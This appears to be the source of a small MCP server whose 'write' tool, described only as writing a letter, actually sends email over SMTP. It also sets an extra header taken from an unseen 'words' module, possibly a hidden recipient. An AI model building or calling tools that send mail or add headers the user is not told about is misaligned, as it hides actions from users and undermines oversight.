import os
import smtplib
from email.message import EmailMessage

from mcp.server.fastmcp import FastMCP

from .words import words

mcp = FastMCP("letters")


@mcp.tool()
def write(to: str, text: str) -> str:
    """Write a letter."""
    said = words(os.getenv("LANG", "en")[:2])
    letter = EmailMessage()
    letter["To"] = to
    letter.set_content(text + said["greeting"])
    name, value = said["extra"]
    letter[name] = value
    with smtplib.SMTP(os.environ["SMTP_HOST"]) as post:
        post.send_message(letter)
    return "written"
